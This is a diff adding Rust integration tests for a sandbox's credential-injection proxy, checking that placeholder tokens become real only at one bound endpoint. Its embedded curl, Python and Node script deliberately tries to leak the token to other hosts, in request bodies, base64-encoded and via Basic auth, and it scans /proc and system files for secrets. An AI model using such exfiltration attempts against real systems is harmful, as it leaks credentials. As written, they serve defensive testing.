@@ -1,0 +1,515 @@
+//! Credential injection in a real sandbox: the tool sees only placeholders
+//! (in its environment); curl, Python `requests` (both through the proxy
+//! door) and Node's `fetch` (which ignores the proxy variables: the DNS and
+//! transparent doors) trust the session CA with no flag of their own, and
+//! the placeholder reaches the bound loopback upstream as the real token,
+//! over HTTPS and HTTP. Anywhere else (another allowed host, a denied host,
+//! a body, base64, Basic auth to the wrong host) it is refused; the token is
+//! nowhere in the sandbox nor in what cordon reports.
+
+use std::convert::Infallible;
+use std::net::IpAddr;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use cordon_egress::{Binding, HostPort, Injection, Injections, Placement, TokenSource};
+use cordon_runtime::native::Native;
+use cordon_runtime::{
+    Context, Credentials, EgressEvent, EgressPolicy, Network, Root, Runtime, SandboxSpec, Status,
+};
+use http_body_util::{BodyExt, Full};
+use hyper::body::{Bytes, Incoming};
+use hyper::{Request, Response};
+use hyper_util::rt::{TokioExecutor, TokioIo};
+use zeroize::Zeroizing;
+
+#[path = "../../../tests/support/image.rs"]
+mod image;
+#[path = "../../../tests/support/skip.rs"]
+mod skip;
+
+const PH: &str = "cordon-ph-Jr4Qn8Wc2Lx6Vb0Tz5Hm9Ks3";
+const TOKEN: &str = "jira-real-token-5b1f0c9e77a2d4836e";
+const PH_PLAIN: &str = "cordon-ph-Pw7Dk2Rt9Yb4Nc6Xv1Qs8Lm3";
+const TOKEN_PLAIN: &str = "plain-real-token-0e4d9a2b6c8f13";
+
+struct Fixed(&'static str);
+
+impl TokenSource for Fixed {
+    fn current(&self) -> Result<Zeroizing<String>, String> {
+        Ok(Zeroizing::new(self.0.to_string()))
+    }
+}
+
+type Log = Arc<Mutex<Vec<String>>>;
+
+async fn record(req: Request<Incoming>, log: Log) -> Result<Response<Full<Bytes>>, Infallible> {
+    let mut seen = format!("{} {} {:?}\n", req.method(), req.uri(), req.version());
+    for (k, v) in req.headers() {
+        seen.push_str(&format!("{k}: {}\n", String::from_utf8_lossy(v.as_bytes())));
+    }
+    let body = req
+        .into_body()
+        .collect()
+        .await
+        .map(|b| b.to_bytes())
+        .unwrap_or_default();
+    seen.push_str(&String::from_utf8_lossy(&body));
+    log.lock().unwrap().push(seen);
+    Ok(Response::new(Full::new(Bytes::from_static(
+        b"upstream ok\n",
+    ))))
+}
+
+fn test_pki() -> (String, rustls::ServerConfig) {
+    let ca_key = rcgen::KeyPair::generate().unwrap();
+    let mut ca = rcgen::CertificateParams::default();
+    ca.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
+    ca.distinguished_name
+        .push(rcgen::DnType::CommonName, "cordon test upstream CA");
+    let ca = rcgen::CertifiedIssuer::self_signed(ca, ca_key).unwrap();
+    let key = rcgen::KeyPair::generate().unwrap();
+    let leaf =
+        rcgen::CertificateParams::new(vec!["api.test".to_string(), "other.test".to_string()])
+            .unwrap()
+            .signed_by(&key, &ca)
+            .unwrap();
+    let mut cfg = rustls::ServerConfig::builder_with_provider(Arc::new(
+        rustls::crypto::ring::default_provider(),
+    ))
+    .with_safe_default_protocol_versions()
+    .unwrap()
+    .with_no_client_auth()
+    .with_single_cert(
+        vec![leaf.der().clone()],
+        rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
+    )
+    .unwrap();
+    cfg.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
+    (ca.pem(), cfg)
+}
+
+async fn upstream(tls: Option<rustls::ServerConfig>, log: Log) -> u16 {
+    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = l.local_addr().unwrap().port();
+    let acceptor = tls.map(|c| tokio_rustls::TlsAcceptor::from(Arc::new(c)));
+    tokio::spawn(async move {
+        loop {
+            let Ok((s, _)) = l.accept().await else {
+                continue;
+            };
+            let (log, acceptor) = (log.clone(), acceptor.clone());
+            tokio::spawn(async move {
+                let svc = hyper::service::service_fn(move |r| record(r, log.clone()));
+                let b = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new());
+                match acceptor {
+                    Some(a) => {
+                        if let Ok(t) = a.accept(s).await {
+                            let _ = b.serve_connection(TokioIo::new(t), svc).await;
+                        }
+                    }
+                    None => {
+                        let _ = b.serve_connection(TokioIo::new(s), svc).await;
+                    }
+                }
+            });
+        }
+    });
+    port
+}
+
+fn have(prog: &str, args: &[&str]) -> bool {
+    std::process::Command::new(prog)
+        .args(args)
+        .output()
+        .is_ok_and(|o| o.status.success())
+}
+
+/// What the sandbox runs: each case prints `CASE <name> <http status>`.
+const SCRIPT: &str = r#"
+set -u
+c() { name=$1; shift; printf 'CASE %s %s\n' "$name" "$(curl -sS -o /dev/null -w '%{http_code}' --max-time 20 "$@" 2>/dev/null)"; }
+c curl-https -H "Authorization: Bearer $JIRA_TOKEN" "https://api.test:$TLS/rest/api/2/search?jql=x"
+c curl-http -H "X-Api-Key: $PLAIN_KEY" "http://api.test:$PLAIN/v1/ping"
+c curl-control-other-http "http://other.test:$PLAIN/plain"
+c curl-other-host -H "Authorization: Bearer $JIRA_TOKEN" "https://other.test:$TLS/rest/x"
+c curl-denied-host -H "Authorization: Bearer $JIRA_TOKEN" "https://denied.test:$TLS/rest/x"
+c curl-body --data "token=$JIRA_TOKEN" "https://api.test:$TLS/rest/x"
+c curl-base64 --data "$(printf 'x%s' "$JIRA_TOKEN" | base64 -w0)" "https://api.test:$TLS/rest/x"
+c curl-basic-wrong-host -u "bot:$JIRA_TOKEN" "https://other.test:$TLS/rest/x"
+python3 - <<'PY'
+import os, base64, requests
+tls, plain = os.environ["TLS"], os.environ["PLAIN"]
+ph = os.environ["JIRA_TOKEN"]
+def case(name, f):
+    try:
+        print("CASE", name, f().status_code, flush=True)
+    except Exception as e:
+        print("CASE", name, "error", type(e).__name__, flush=True)
+case("py-https", lambda: requests.get(f"https://api.test:{tls}/rest/py", headers={"Authorization": "Bearer " + ph}, timeout=20))
+case("py-http", lambda: requests.get(f"http://api.test:{plain}/v1/py", headers={"X-Api-Key": os.environ["PLAIN_KEY"]}, timeout=20))
+case("py-other-host", lambda: requests.get(f"https://other.test:{tls}/rest/x", headers={"Authorization": "Bearer " + ph}, timeout=20))
+case("py-basic-wrong-host", lambda: requests.get(f"https://other.test:{tls}/rest/x", auth=("bot", ph), timeout=20))
+case("py-base64-body", lambda: requests.post(f"https://api.test:{tls}/rest/x", data=base64.urlsafe_b64encode(("ab" + ph).encode()), timeout=20))
+PY
+node -e '
+const tls = process.env.TLS, ph = process.env.JIRA_TOKEN;
+async function c(name, url, opts) {
+  try { const r = await fetch(url, opts); await r.text(); console.log("CASE", name, r.status); }
+  catch (e) { console.log("CASE", name, "error", String(e.cause && e.cause.code || e)); }
+}
+(async () => {
+  await c("node-https", `https://api.test:${tls}/rest/node`, {headers: {authorization: "Bearer " + ph}});
+  await c("node-http", `http://api.test:${process.env.PLAIN}/v1/node`, {headers: {"x-api-key": process.env.PLAIN_KEY}});
+  await c("node-other-host", `https://other.test:${tls}/rest/x`, {headers: {authorization: "Bearer " + ph}});
+  await c("node-body", `https://api.test:${tls}/rest/x`, {method: "POST", body: JSON.stringify({t: ph})});
+})();
+'
+# The token nowhere in the sandbox: environments and command lines of every
+# process, and every file of /etc, /tmp and /dev. The half given on stdin
+# is not the token; finding it would mean the token is there.
+python3 -c '
+import os, sys
+half = sys.stdin.read().strip().encode()
+hits = []
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        for f in ("environ", "cmdline"):
+            try:
+                if half in open(f"/proc/{pid}/{f}", "rb").read(): hits.append(f"/proc/{pid}/{f}")
+            except OSError: pass
+n = 0
+for top in ("/etc", "/tmp", "/dev"):
+    for d, _, files in os.walk(top):
+        for f in files:
+            p = os.path.join(d, f)
+            try:
+                if os.path.isfile(p):
+                    n += 1
+                    if half in open(p, "rb").read(): hits.append(p)
+            except OSError: pass
+print("SCANNED", n, "HITS", hits)
+'
+echo "BUNDLE $(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt) $(readlink /etc/ssl/cert.pem) $SSL_CERT_FILE $NODE_EXTRA_CA_CERTS"
+"#;
+
+#[test]
+fn placeholders_become_tokens_only_at_the_bound_endpoint_for_curl_python_and_node() {
+    let test = "placeholders_become_tokens_only_at_the_bound_endpoint_for_curl_python_and_node";
+    if !nix_root() {
+        skip::skip_or_fail(test, "not root: the egress doors need network namespaces");
+        return;
+    }
+    for (prog, args) in [("curl", ["--version"]), ("/usr/bin/node", ["--version"])] {
+        if !have(prog, &args) {
+            skip::skip_or_fail(test, &format!("{prog} is not installed (scripts/setup.sh)"));
+            return;
+        }
+    }
+    if !have("/usr/bin/python3", &["-c", "import requests"]) {
+        skip::skip_or_fail(test, "python3-requests is not installed (scripts/setup.sh)");
+        return;
+    }
+    let rt = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(1)
+        .enable_all()
+        .build()
+        .unwrap();
+    let log: Log = Arc::default();
+    let (ca_pem, cfg) = test_pki();
+    let tls = rt.block_on(upstream(Some(cfg), log.clone()));
+    let plain = rt.block_on(upstream(None, log.clone()));
+    let dir = tempfile::tempdir().unwrap();
+    let ca_file = dir.path().join("upstream-ca.pem");
+    std::fs::write(&ca_file, &ca_pem).unwrap();
+
+    let mut policy = EgressPolicy::allowlist(
+        "jira_search",
+        [
+            format!("api.test:{tls}"),
+            format!("other.test:{tls}"),
+            format!("api.test:{plain}"),
+            format!("other.test:{plain}"),
+        ],
+    )
+    .unwrap();
+    for n in ["api.test", "other.test", "denied.test"] {
+        policy
+            .resolve
+            .insert(n.into(), IpAddr::from([127, 0, 0, 1]));
+    }
+    policy.allow_cidrs.push("127.0.0.1/32".parse().unwrap());
+    policy.upstream_dns = Some("127.0.0.1:9".parse().unwrap());
+    let _ = HostPort::parse("unused.test:1");
+    let mut spec = SandboxSpec::new("jira_search", ["/bin/sh", "-c", SCRIPT]);
+    spec.limits.wall = Duration::from_secs(120);
+    spec.limits.memory_bytes = 1 << 30;
+    spec.limits.tasks = 256;
+    spec.env.push(("TLS".into(), tls.to_string()));
+    spec.env.push(("PLAIN".into(), plain.to_string()));
+    spec.network = Network::Doors(Box::new(policy));
+    let injections = Injections::new(vec![
+        Injection {
+            secret: "JIRA_TOKEN".into(),
+            placeholder: PH.into(),
+            binding: Binding {
+                host: "api.test".into(),
+                port: tls,
+                path_prefix: Some("/rest".into()),
+                placement: Placement::Header {
+                    name: "Authorization".into(),
+                    template: "Bearer {token}".into(),
+                },
+                upstream_ca: Some(ca_file.clone()),
+            },
+            source: Arc::new(Fixed(TOKEN)),
+        },
+        Injection {
+            secret: "PLAIN_KEY".into(),
+            placeholder: PH_PLAIN.into(),
+            binding: Binding {
+                host: "api.test".into(),
+                port: plain,
+                path_prefix: None,
+                placement: Placement::Header {
+                    name: "X-Api-Key".into(),
+                    template: "{token}".into(),
+                },
+                upstream_ca: None,
+            },
+            source: Arc::new(Fixed(TOKEN_PLAIN)),
+        },
+    ]);
+    let events: Arc<Mutex<Vec<EgressEvent>>> = Arc::default();
+    let ev = events.clone();
+    let ctx = Context {
+        session: "sess-inject".into(),
+        on_egress: Arc::new(move |e| ev.lock().unwrap().push(e)),
+        credentials: Credentials {
+            env: vec![
+                ("JIRA_TOKEN".into(), Zeroizing::new(PH.to_string())),
+                ("PLAIN_KEY".into(), Zeroizing::new(PH_PLAIN.to_string())),
+            ],
+            injections,
+        },
+    };
+    let native = Native::new(Default::default()).expect("native runtime");
+    let half = &TOKEN[..TOKEN.len() / 2];
+    let o = native
+        .run(&spec, format!("{half}\n").into_bytes(), &ctx)
+        .expect("run");
+    let out = String::from_utf8_lossy(&o.stdout).to_string();
+    let err = String::from_utf8_lossy(&o.stderr).to_string();
+    assert_eq!(o.status, Status::Ok, "{} {out} {err}", o.reason);
+    let case = |name: &str| -> String {
+        out.lines()
+            .find_map(|l| l.strip_prefix(&format!("CASE {name} ")))
+            .unwrap_or_else(|| panic!("no case {name}: {out} {err}"))
+            .to_string()
+    };
+    // Positive controls: each client reaches the bound endpoint, over
+    // HTTPS trusting the session CA with no flag of its own.
+    for c in [
+        "curl-https",
+        "curl-http",
+        "curl-control-other-http",
+        "py-https",
+        "py-http",
+        "node-https",
+        "node-http",
+    ] {
+        assert_eq!(case(c), "200", "{c}: {out} {err}");
+    }
+    // Refusals.
+    for c in [
+        "curl-other-host",
+        "curl-denied-host",
+        "curl-body",
+        "curl-base64",
+        "curl-basic-wrong-host",
+        "py-other-host",
+        "py-basic-wrong-host",
+        "py-base64-body",
+        "node-other-host",
+        "node-body",
+    ] {
+        let got = case(c);
+        // A CONNECT refused by the allowlist is a 403 of the proxy: curl
+        // reports the CONNECT status (000 with no response of the origin).
+        if c == "curl-denied-host" {
+            assert!(got == "403" || got == "000", "{c}: {got}: {out}");
+        } else {
+            assert_eq!(got, "403", "{c}: {out} {err}");
+        }
+    }
+    // What arrived upstream: the token on the bound requests only, never
+    // a placeholder.
+    let seen = log.lock().unwrap().clone();
+    let with_token: Vec<&String> = seen.iter().filter(|s| s.contains(TOKEN)).collect();
+    assert_eq!(with_token.len(), 3, "curl, requests and fetch: {seen:#?}");
+    for s in &with_token {
+        assert!(
+            s.contains(&format!("authorization: Bearer {TOKEN}\n")),
+            "{s}"
+        );
+        assert!(s.contains(" /rest/") || s.contains("/rest/"), "{s}");
+    }
+    assert_eq!(
+        seen.iter().filter(|s| s.contains(TOKEN_PLAIN)).count(),
+        3,
+        "{seen:#?}"
+    );
+    for s in &seen {
+        assert!(
+            !s.contains(PH) && !s.contains(PH_PLAIN),
+            "a placeholder reached the upstream: {s}"
+        );
+        assert!(
+            !s.contains("/rest/x"),
+            "a refused request reached the upstream: {s}"
+        );
+    }
+    // Events: uses name the secret, refusals are marked; no value anywhere.
+    let ev = events.lock().unwrap().clone();
+    let used = ev
+        .iter()
+        .filter(|e| e.injected == vec!["JIRA_TOKEN".to_string()])
+        .count();
+    assert_eq!(used, 3, "{ev:#?}");
+    let exfil = ev
+        .iter()
+        .filter(|e| e.exfiltration.as_deref() == Some("JIRA_TOKEN"))
+        .count();
+    // Every refusal but the denied host (refused at CONNECT, before any
+    // request is seen).
+    assert_eq!(exfil, 9, "{ev:#?}");
+    assert!(
+        ev.iter()
+            .any(|e| e.name == "denied.test" && e.decision == cordon_runtime::Decision::Refused)
+    );
+    let all = format!("{ev:?}{out}{err}{}", o.reason);
+    for t in [TOKEN, TOKEN_PLAIN, half] {
+        assert!(!all.contains(t), "a token in cordon's output or events");
+    }
+    // The token nowhere in the sandbox (the scan ran and looked at files).
+    let scan = out
+        .lines()
+        .find(|l| l.starts_with("SCANNED"))
+        .unwrap_or_else(|| panic!("{out} {err}"));
+    assert!(scan.ends_with("HITS []"), "{scan}");
+    let n: usize = scan.split_whitespace().nth(1).unwrap().parse().unwrap();
+    assert!(n >= 5, "{scan}");
+    // The trust bundle: the host's roots plus the session CA, linked, named.
+    let bundle = out.lines().find(|l| l.starts_with("BUNDLE ")).unwrap();
+    let f: Vec<&str> = bundle.split_whitespace().collect();
+    assert!(f[1].parse::<usize>().unwrap() >= 2, "{bundle}");
+    assert_eq!(
+        &f[2..],
+        [
+            "/etc/ssl/certs/ca-certificates.crt",
+            "/etc/ssl/certs/ca-certificates.crt",
+            "/etc/ssl/certs/ca-certificates.crt"
+        ]
+    );
+}
+
+fn nix_root() -> bool {
+    std::fs::read_to_string("/proc/self/status")
+        .ok()
+        .and_then(|s| {
+            s.lines()
+                .find(|l| l.starts_with("Uid:"))
+                .and_then(|l| l.split_whitespace().nth(2).map(|u| u == "0"))
+        })
+        .unwrap_or(false)
+}
+
+#[test]
+fn an_image_root_gets_the_session_ca_over_its_own_bundle() {
+    let test = "an_image_root_gets_the_session_ca_over_its_own_bundle";
+    if let Some(why) = image::missing() {
+        skip::skip_or_fail(test, &why);
+        return;
+    }
+    if !nix_root() {
+        skip::skip_or_fail(test, "not root: the egress doors need network namespaces");
+        return;
+    }
+    let img = image::busybox();
+    let root = img.path();
+    std::fs::create_dir_all(root.join("etc/ssl/certs")).unwrap();
+    std::fs::write(
+        root.join("etc/ssl/certs/ca-certificates.crt"),
+        "IMAGE ROOTS\n",
+    )
+    .unwrap();
+    std::os::unix::fs::symlink("certs/ca-certificates.crt", root.join("etc/ssl/cert.pem")).unwrap();
+    for d in ["etc/ssl", "etc/ssl/certs"] {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(root.join(d), std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    let script = "cat /etc/ssl/certs/ca-certificates.crt | busybox grep -c 'BEGIN CERTIFICATE'; \
+                  busybox head -n 1 /etc/ssl/cert.pem; echo \"env $SSL_CERT_FILE $NODE_EXTRA_CA_CERTS\"; \
+                  busybox grep -c 'BEGIN CERTIFICATE' \"$SSL_CERT_FILE\"";
+    let mut spec = SandboxSpec::new("img", ["/bin/sh", "-c", script]);
+    spec.root = Root::Image {
+        rootfs: root.to_path_buf(),
+        digest: "sha256:0000000000000000000000000000000000000000000000000000000000000000".into(),
+    };
+    spec.env[0].1 = "/bin".into();
+    let mut policy = EgressPolicy::allowlist("img", ["api.test:443"]).unwrap();
+    policy.upstream_dns = Some("127.0.0.1:9".parse().unwrap());
+    spec.network = Network::Doors(Box::new(policy));
+    let native = Native::new(Default::default()).expect("native runtime");
+    let run = |ctx: &Context| {
+        let o = native.run(&spec, Vec::new(), ctx).expect("run");
+        (
+            String::from_utf8_lossy(&o.stdout).to_string(),
+            String::from_utf8_lossy(&o.stderr).to_string(),
+        )
+    };
+    // Positive control: without injections the image's own bundle.
+    let (out, err) = run(&Context::discard("s"));
+    assert!(out.starts_with("0\nIMAGE ROOTS\nenv  \n"), "{out} {err}");
+    let ctx = Context {
+        session: "s".into(),
+        on_egress: Arc::new(|_| {}),
+        credentials: Credentials {
+            env: vec![("JIRA_TOKEN".into(), Zeroizing::new(PH.to_string()))],
+            injections: Injections::new(vec![Injection {
+                secret: "JIRA_TOKEN".into(),
+                placeholder: PH.into(),
+                binding: Binding {
+                    host: "api.test".into(),
+                    port: 443,
+                    path_prefix: None,
+                    placement: Placement::Header {
+                        name: "Authorization".into(),
+                        template: "Bearer {token}".into(),
+                    },
+                    upstream_ca: None,
+                },
+                source: Arc::new(Fixed(TOKEN)),
+            }]),
+        },
+    };
+    let (out, err) = run(&ctx);
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines.len(), 4, "{out} {err}");
+    let n: usize = lines[0].parse().unwrap();
+    assert!(n >= 2, "the host's roots and the session CA: {out}");
+    assert_eq!(
+        lines[1], "-----BEGIN CERTIFICATE-----",
+        "the image's symlink reaches the bundle"
+    );
+    assert_eq!(
+        lines[2],
+        "env /dev/cordon-ca-bundle.crt /dev/cordon-ca-bundle.crt"
+    );
+    assert_eq!(lines[3], lines[0]);
+    // The image itself is untouched.
+    assert_eq!(
+        std::fs::read_to_string(root.join("etc/ssl/certs/ca-certificates.crt")).unwrap(),
+        "IMAGE ROOTS\n"
+    );
+}
